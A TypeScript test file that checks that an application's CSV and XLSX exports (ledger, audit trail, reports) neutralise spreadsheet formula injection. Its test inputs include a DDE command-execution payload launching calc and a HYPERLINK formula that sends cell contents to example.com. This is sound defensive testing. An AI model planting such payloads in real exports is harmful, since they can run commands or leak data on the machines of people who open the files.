/** No cell of any table that the program writes is run by a spreadsheet: whatever begins like a formula is text. */

import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import type { Rollup } from '#law/report/rollup/rollup';
import { auditToCsv } from '#paper/audit/to-csv';
import type { LedgerRow } from '#paper/ledger/columns';
import { ledgerToCsv } from '#paper/ledger/to-csv';
import { ledgerToXlsx } from '#paper/ledger/to-xlsx';
import { csvRecords } from '#paper/read/csv-records';
import { listToXlsx } from '#paper/report/plain-workbook';
import { rollupToCsv } from '#paper/report/rollup-csv';
import { csvText, reportToCsv } from '#paper/report/to-csv';
import { reportToXlsx } from '#paper/report/to-xlsx';
import { toCsv } from '../../src/admin/client/csv.ts';
import { numberedReport } from './report-samples.ts';

/** What spreadsheets begin to compute at: signs of half and of full width, also behind what is not seen. */
const hostile = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1)', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)'],
  ...['\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '  @SUM(1)', '\u00a0=1+1', '\u3000+1+1', '\u200b=1+1', '\ufeff-1+1'],
  ...[`=cmd|'/c calc'!A0`, '=HYPERLINK("http://example.com/?"&A1,"看")', '+1+1,=2', '"=1+1', "''=1+1", '=1\n=2'],
];
const invisible = /^[\s\u200b-\u200f\u2060\ufeff]+/;
const runs = (cell: string) => /^[=+\-@＝＋－＠]/.test(cell.replace(invisible, ''));

const report = (word: string) => {
  const one = numberedReport();
  const sections = {
    preamble: word,
    overview: word,
    problems: word,
    other: `| ${word} | 乙 |\n| --- | --- |\n| ${word} | 2 |`,
  };
  return { ...one, agency: word, title: word, sections };
};
const ledgerRow = (word: string): LedgerRow => ({
  ...{ position: 1, number: word, receivedOn: word, carriedOver: word, channel: word, applicantType: word },
  ...{ applicant: word, summary: word, dueOn: word, extended: word, state: word, replyNumber: word, repliedOn: word },
  ...{ lateBy: null, outcome: word, deliveredOn: word, deliveredBy: word, fee: -1, appeals: word },
});
async function* once<T>(one: T): AsyncGenerator<T> {
  yield one;
}
async function whole<T>(pieces: AsyncIterable<T>): Promise<T[]> {
  const all: T[] = [];
  for await (const one of pieces) all.push(one);
  return all;
}

const asCsv: Readonly<Record<string, (word: string) => string | Promise<string>>> = {
  'tables of the server': (word) =>
    csvText([
      [word, 'b'],
      ['a', word],
    ]),
  'lists of the back office': (word) =>
    toCsv([
      [word, 'b'],
      ['a', word],
    ]),
  'the audit trail': (word) =>
    auditToCsv([
      {
        ...{
          entry: 1,
          at: word,
          actor: word,
          actorName: word,
          actorAgency: word,
          roles: [word],
          agency: word,
          act: word,
        },
        ...{ subject: word, object: word, result: word, reason: word, from: word, session: word, request: word },
        ...{ before: word, after: word, position: 1 },
      },
    ]),
  'the ledger': async (word) => (await whole(ledgerToCsv(once([ledgerRow(word)]), true))).join(''),
  'a report': (word) => reportToCsv(report(word)),
  'a sum of reports': (word) =>
    rollupToCsv({
      report: report(word),
      coverage: { counted: [{ report: report(word), source: word }] },
    } as unknown as Rollup),
};

const asXlsx: Readonly<Record<string, (word: string) => Promise<Uint8Array>>> = {
  'lists of the server': (word) => listToXlsx({ name: '表', title: word, heads: [word], rows: [[word], [-1], [null]] }),
  'the ledger': async (word) => Buffer.concat(await whole(ledgerToXlsx(once([ledgerRow(word)]), true, '台账'))),
  'a report': (word) => reportToXlsx(report(word)),
};

describe.each(Object.entries(asCsv))('%s as CSV', (_, write) => {
  test.each(hostile)('%j is no formula', async (word) => {
    const records = csvRecords(await write(word), 10_000_000) ?? [];
    expect(records.length).toBeGreaterThan(0);
    const cells = records.flatMap(({ cells: all }) => all.slice(0, 99));
    // Figures are figures: a minus belongs to them.
    expect(cells.filter((cell) => runs(cell) && !/^-?\d+(?:\.\d+)?$/.test(cell))).toEqual([]);
  });
});

describe.each(Object.entries(asXlsx))('%s as XLSX', (_, write) => {
  test.each(hostile)('%j is a cell of text', async (word) => {
    const parts = unzipSync(await write(word));
    const sheets = Object.entries(parts).filter(([name]) => /^xl\/worksheets\/[^/]+\.xml$/.test(name));
    expect(sheets.length).toBeGreaterThan(0);
    for (const [name, bytes] of sheets) {
      const sheet = strFromU8(bytes);
      expect(sheet, name).not.toMatch(/<f[\s>/]/);
      for (const [cell = '', attributes = ''] of sheet.matchAll(/<c\b([^>]*)>[\s\S]*?<\/c>/g)) {
        const isText = /\bt="(?:s|inlineStr)"/.test(attributes);
        expect(isText || /<v>-?[\d.]+<\/v>/.test(cell), cell).toBe(true);
      }
    }
    expect(Object.keys(parts).filter((name) => /calcChain|externalLink|connections/.test(name))).toEqual([]);
  });
});

test('no other file of the program writes tables', () => {
  const files = readdirSync('src', { recursive: true, encoding: 'utf8' })
    .filter((name) => /\.tsx?$/.test(name))
    .map((name) => ({ name: name.replaceAll('\\', '/'), text: readFileSync(join('src', name), 'utf8') }));
  const writers = (has: RegExp) =>
    files
      .filter(({ text }) => has.test(text))
      .map(({ name }) => name)
      .sort();
  expect(writers(/\.join\('[,;]'\)[\s\S]{0,40}\\r\\n/)).toEqual([
    'admin/client/csv.ts',
    'paper/audit/to-csv.ts',
    'paper/ledger/to-csv.ts',
    'paper/report/to-csv.ts',
  ]);
  expect(writers(/writeXlsx\(|worksheet\+xml/)).toEqual([
    'paper/ledger/to-xlsx.ts',
    'paper/report/plain-workbook.ts',
    'paper/report/to-xlsx.ts',
  ]);
});
